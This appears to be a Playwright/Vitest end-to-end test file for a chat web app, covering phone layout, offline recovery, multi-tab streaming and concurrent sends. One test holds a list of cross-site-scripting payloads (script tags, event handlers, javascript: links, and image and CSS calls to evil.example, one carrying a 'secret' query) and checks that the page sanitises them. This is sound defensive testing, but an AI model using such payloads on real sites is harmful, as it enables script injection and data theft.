/** The page under strain: narrow, cut off, twice, and with a model that means harm. */

import type { Browser, Route } from 'playwright-core'
import { afterAll, beforeAll, describe, it } from 'vitest'
import { benchAnswer } from '../demo/server.ts'
import { launchChromium } from './chromium.ts'
import { sitDown, words } from './person.ts'
import { asked, newMark, newQuestion, startSystem, type System, until } from './system.ts'
import { startWire } from './wire.ts'

let system: System
let browser: Browser
beforeAll(async () => {
  ;[system, browser] = await Promise.all([startSystem({ demo: { rate: 800 } }), launchChromium()])
})
afterAll(() => Promise.all([browser.close(), system.stop()]))

/** What the parrot is made to say: it repeats the first 120 characters of a question. */
const HOSTILE = [
  '<script>globalThis.ran = 1</script>',
  '<img src=x onerror="globalThis.ran=1">',
  '<svg onload="globalThis.ran=1"><script>globalThis.ran=1</script></svg>',
  '<iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
  '<style>@import url(https://evil.example/x.css)</style><link rel=stylesheet href=https://evil.example/y.css>',
  '<form action="https://evil.example"><input autofocus onfocus="ran=1"></form>',
  '![x](https://evil.example/x.png?q=secret) ![y](//evil.example/y) ![z](data:image/svg+xml,<svg onload=ran=1>)',
  '[x](javascript:globalThis.ran=1) <a href="javascript:ran=1">y</a> [z](data:text/html,<script>ran=1</script>)',
  '<details open ontoggle="globalThis.ran=1">x</details><video autoplay src="https://evil.example/v">',
  '<div style="position:fixed;inset:0;background:url(https://evil.example/z)">x</div>',
]

describe('the page', () => {
  it('opens an older chat by its address, also when that is all there is', async ({ expect }) => {
    const desk = await sitDown(browser, system.url)
    const person = await desk.open()
    const asking = newQuestion(20)
    await person.pick('bench-fast:1b')
    await person.ask(asking)
    await person.waitsForDone()
    const other = await desk.open(`/c/${person.chat}`)
    await other.waitsForDone()
    const stranger = await sitDown(browser, system.url)
    const strange = await stranger.open(`/c/${person.chat}`)
    await strange.page.getByText('There is no such chat here.').waitFor()

    expect(await other.reads()).toBe(words(benchAnswer(asking)))
    expect([...desk.wrongs, ...stranger.wrongs]).toEqual([])
    await Promise.all([desk.context.close(), stranger.context.close()])
  })

  it('fits a telephone of 360 pixels in all that it shows', async ({ expect }) => {
    const desk = await sitDown(browser, system.url, { viewport: { width: 360, height: 700 }, hasTouch: true })
    const person = await desk.open()
    const widths: Record<string, number> = { start: await person.overflow() }
    await person.button(/^Model: /).click()
    await person.shoot('phone-models')
    widths['models'] = await person.overflow()
    await person.page.locator('.models [role=option]', { hasText: 'scribe:8b' }).click()
    await person.field.fill(
      `code, a table and ${'Donaudampfschifffahrt'.repeat(8)} https://example.com/${'x'.repeat(90)}`
    )
    await person.button('Send message').click()
    await person.sees(200)
    widths['writing'] = await person.overflow()
    await person.waitsForDone()
    widths['answered'] = await person.overflow()
    await person.shoot('phone-answered')
    await person.button('Show chats').click()
    await person.page.getByRole('dialog', { name: 'Chats' }).waitFor()
    widths['drawer'] = await person.overflow()
    await person.shoot('phone-chats')

    expect(widths).toEqual({ start: 0, models: 0, writing: 0, answered: 0, drawer: 0 })
    expect(desk.wrongs).toEqual([])
    await desk.context.close()
  })

  it('[V3] never runs, loads or lets out what a hostile model writes', async ({ expect }) => {
    const desk = await sitDown(browser, system.url)
    const person = await desk.open()
    await person.pick('parrot:1b')
    for (const hostile of HOSTILE) {
      await person.button('New chat').first().click()
      await person.ask(hostile)
      await person.waitsForDone()
      expect(await person.reads()).toContain('That is what a parrot does')
      const found = await person.page.evaluate(() => ({
        ran: 'ran' in globalThis,
        tags: [...document.querySelectorAll('.said *')].map(({ localName }) => localName),
        attributes: [...document.querySelectorAll('.said *')].flatMap(each => each.getAttributeNames()),
        signs: [...document.querySelectorAll('.said use')].map(use => use.getAttribute('href')),
        links: [...document.querySelectorAll<HTMLAnchorElement>('.said a')].map(({ protocol }) => protocol),
      }))
      expect(found.ran).toBe(false)
      expect(found.tags.filter(tag => !/^(p|div|span|strong|em|a|code|bdi|br|svg|use)$/.test(tag))).toEqual(
        []
      )
      expect(found.attributes.filter(name => /^on|^style$|^src|^srcdoc$|^action$|^id$/.test(name))).toEqual(
        []
      )
      expect(found.signs.filter(sign => !/^#i-[a-z]+$/.test(sign ?? ''))).toEqual([])
      expect(found.links.filter(protocol => !/^https?:$/.test(protocol))).toEqual([])
    }
    await person.shoot('hostile')
    expect(desk.wrongs).toEqual([])
    await desk.context.close()
  })

  it('[T6] goes offline in the middle of an answer, says so, and catches up word for word', async ({
    expect,
  }) => {
    const wire = await startWire(system.url)
    const desk = await sitDown(browser, wire.url)
    const person = await desk.open()
    const asking = newQuestion(250)
    await person.pick('bench-50:1b')
    await person.ask(asking)
    await person.sees(100)
    await desk.context.setOffline(true)
    wire.cut()
    await person.log.getByText('Looking for your answer again.').waitFor()
    await person.shoot('offline')
    await desk.context.setOffline(false)
    await person.waitsForDone()

    expect(await person.reads()).toBe(words(benchAnswer(asking)))
    expect(asked(system.demo, asking)).toHaveLength(1)
    await desk.context.close()
    await wire.close()
  })

  it('[T5] shows the same answer in two tabs, and stops it in both from either', async ({ expect }) => {
    const desk = await sitDown(browser, system.url)
    const left = await desk.open()
    const mark = newMark()
    await left.pick('slow:1b')
    await left.ask(mark)
    await left.sees(20)
    const right = await desk.open(`/c/${left.chat}`)
    await right.sees(60)
    const both = await Promise.all([left.reads(), right.reads()])
    await right.button('Stop generating').click()
    await Promise.all([left, right].map(({ log }) => log.getByText(/^Stopped by you/).waitFor()))
    const [upstream] = asked(system.demo, mark)
    await until('the upstream is closed', () => upstream?.ended, 1_000)

    expect(both[1].slice(0, 30)).toBe(both[0].slice(0, 30))
    expect(await left.reads()).toBe(await right.reads())
    expect(desk.wrongs).toEqual([])
    await desk.context.close()
  })

  it('[T3] asked in two windows at once begins in one; the other follows it and has its text back', async ({
    expect,
  }) => {
    const desk = await sitDown(browser, system.url)
    const left = await desk.open()
    await left.pick('bench-50:1b')
    await left.ask(newQuestion(5))
    await left.waitsForDone()
    const right = await desk.open(`/c/${left.chat}`)
    await right.waitsForDone()
    const [mine, yours] = [newQuestion(120), newQuestion(121)]
    await Promise.all([left.field.fill(mine), right.field.fill(yours)])
    // Both are on their way before either arrives: else one would see the other's answer begin, and not ask.
    const asking: Route[] = []
    await desk.context.route('**/api/chats/*/turns', route => {
      asking.push(route)
      if (asking.length === 2) for (const one of asking) void one.continue()
    })
    await Promise.all([left.field.press('Enter'), right.field.press('Enter')])
    const refused = await until('one was refused', async () => {
      for (const window of [left, right]) {
        if (await window.page.getByText('An answer is still being written in this chat.').count())
          return window
      }
      return null
    })
    const [first, text, back] = refused === left ? [right, yours, mine] : [left, mine, yours]
    await Promise.all([first.waitsForDone(), refused.waitsForDone()])

    expect(await refused.field.inputValue()).toBe(back)
    expect([await first.reads(), await refused.reads()]).toEqual([
      words(benchAnswer(text)),
      words(benchAnswer(text)),
    ])
    expect(asked(system.demo, back)).toEqual([])
    await desk.context.close()
  })
})
